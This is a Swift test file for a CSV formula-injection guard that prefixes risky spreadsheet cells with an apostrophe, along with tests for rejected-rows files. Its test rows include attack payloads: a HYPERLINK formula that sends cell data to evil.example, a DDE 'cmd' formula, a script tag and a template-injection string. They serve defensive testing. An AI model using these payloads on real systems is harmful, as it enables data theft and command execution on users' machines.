import DelimitedText
import TestSupport
import Testing

@Suite("Guarding spreadsheets against formulas") struct FormulaGuardTests {
  struct Row: CustomTestStringConvertible, Sendable {
    let name: String
    let value: String
    let isGuarded: Bool
    var testDescription: String { name }
  }

  // The values up to "a telephone number" are the project's own list of export attacks, after the
  // published failure of one check-in system's escape and OWASP's list.
  static let rows = [
    Row(name: "a formula", value: "=1+1", isGuarded: true),
    Row(
      name: "a link that carries data away",
      value: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", isGuarded: true),
    Row(name: "a plus", value: "+84912345678", isGuarded: true),
    Row(name: "an at sign", value: "@SUM(1+1)*cmd|' /C calc'!A0", isGuarded: true),
    Row(name: "a carriage return first", value: "\r=1+1", isGuarded: true),
    Row(name: "spaces first", value: "  =1+1", isGuarded: true),
    Row(name: "a separator inside", value: "Nguyen;=1+1", isGuarded: false),
    Row(name: "a sum that begins with a digit", value: "0+1+2", isGuarded: false),
    Row(name: "a byte order mark first", value: "\u{FEFF}=1+1", isGuarded: true),
    Row(name: "an override of direction", value: "\u{202E}gpj.exe", isGuarded: false),
    Row(name: "a zero-width space first", value: "\u{200B}=1+1", isGuarded: true),
    Row(name: "a script", value: "</script><script>alert(1)</script>", isGuarded: false),
    Row(name: "a template", value: "{{constructor.constructor('alert(1)')()}}", isGuarded: false),
    Row(name: "a number with an exponent", value: "-1e500", isGuarded: false),
    Row(
      name: "decomposed Vietnamese", value: "Nguye\u{302}\u{303}n Va\u{306}n A", isGuarded: false),
    Row(name: "a telephone number", value: "+84 225 384 2658", isGuarded: true),
    Row(name: "a minus alone", value: "-", isGuarded: true),
    Row(name: "a negative number", value: "-68", isGuarded: false),
    Row(name: "a negative fraction", value: "-12,5", isGuarded: false),
    Row(name: "a sum that begins with a minus", value: "-1+1", isGuarded: true),
    Row(name: "a call after a minus", value: "-cmd()", isGuarded: true),
    Row(name: "a tab first", value: "\tx", isGuarded: true),
    Row(name: "a line feed first", value: "\nx", isGuarded: true),
    Row(name: "a full-width equals sign", value: "＝1+1", isGuarded: true),
    Row(name: "a full-width at sign", value: "＠SUM(1)", isGuarded: true),
    Row(name: "what looks guarded", value: "'=1+1", isGuarded: true),
    Row(name: "a quoted word", value: "'Chợ'", isGuarded: false),
    Row(name: "Vietnamese letters", value: "Đường Điện Biên Phủ", isGuarded: false),
    Row(name: "nothing", value: "", isGuarded: false),
  ]

  @Test(
    "A cell that could be a formula gets an apostrophe and quotes, others nothing", arguments: rows)
  func guards(row: Row) {
    let safe = FormulaGuard.applied(to: row.value)
    #expect(Array(safe.utf8) == Array(((row.isGuarded ? "'" : "") + row.value).utf8))
    #expect(Array(FormulaGuard.removed(from: safe).utf8) == Array(row.value.utf8))
    var writer = DelimitedWriter(guardsFormulas: true)
    writer.write(["x", row.value])
    #expect(writer.text.hasPrefix("x,\"'") == row.isGuarded)
  }

  @Test("Undoing gives back any text")
  func isUndone() {
    let alphabet: [Unicode.Scalar] = [
      "'", "=", "-", "+", "1", ".", "e", " ", "\t", "\n", "\u{200B}", "\u{301}", "a",
    ]
    for seed in UInt64(1)...2000 {
      var generator = SeededGenerator(seed: seed)
      var text = String.UnicodeScalarView()
      for _ in 0..<Int.random(in: 0...6, using: &generator) {
        text.append(alphabet.randomElement(using: &generator) ?? "a")
      }
      let value = String(text)
      let back = FormulaGuard.removed(from: FormulaGuard.applied(to: value))
      let isSame = Array(back.utf8) == Array(value.utf8)
      if !isSame { Issue.record("seed \(seed): \(value.debugDescription) came back as \(back)") }
      let unguarded = FormulaGuard.removed(from: value)
      let isKept = Array(FormulaGuard.applied(to: unguarded).utf8) == Array(value.utf8)
      let wasGuarded = unguarded.utf8.count != value.utf8.count
      if wasGuarded, !isKept { Issue.record("seed \(seed): guarding again differs") }
    }
  }

  @Test("Without the option cells are written as they are")
  func isAnOption() {
    var writer = DelimitedWriter()
    writer.write(["=1+1", "-", "a\"b"])
    #expect(writer.takeBytes() == Array("=1+1,-,\"a\"\"b\"\n".utf8))
    #expect(writer.bytes.isEmpty)
  }

  @Test("A rejected-rows file keeps the cells and adds line, column and reason")
  func writesRejectedRows() {
    var writer = RejectedRowWriter(
      columns: ["Tên", "reason", "Địa chỉ"], separator: UInt8(ascii: ";"))
    writer.write(
      RejectedRow(
        cells: ["Chợ Đổ", "old", "=1"], line: 7, column: "Tên", code: "x", reason: "a; b"))
    writer.write(
      RejectedRow(
        RowFault(line: 9, reason: .columnCount(found: 4, expected: 3)),
        cells: ["a", "b", "c", "d"]))
    writer.write(
      RejectedRow(RowFault(line: 11, column: 2, reason: .strayQuote), cells: ["raw \" line"]))
    let lines = String(decoding: writer.takeBytes(), as: UTF8.self).split(separator: "\n")
    #expect(
      lines == [
        "Tên;Địa chỉ;line;column;reason", "Chợ Đổ;\"'=1\";7;Tên;\"a; b\"",
        "a;\"c;d\";9;;4 cells where the header has 3: quote cells that hold the separator",
        "\"raw \"\" line\";;11;2;a quote stands inside a cell: put the whole cell in quotes and double the quotes inside",
      ])
  }

  @Test("A rejected-rows file is known by its columns, and its guards come off when it is read")
  func readsRejectedRows() {
    var writer = RejectedRowWriter(columns: ["name"])
    for name in ["+84 912", "'+84", "an"] {
      writer.write(RejectedRow(cells: [name], line: 2, column: "name", code: "x", reason: "-"))
    }
    let fields = [TableField("name", isRequired: true)]
    let reading = Reading(writer.takeBytes(), fields: fields, byField: true)
    #expect(reading.events == [.row(2, ["+84 912"]), .row(3, ["'+84"]), .row(4, ["an"])])
    #expect(reading.unknown == [])
    // A table that only looks a little like one is read as it stands.
    let other = Reading(Array("name,line,reason\n'+84,1,2\n".utf8), fields: fields, byField: true)
    #expect(other.events == [.row(2, ["'+84"])] && other.unknown == ["line", "reason"])
  }
}
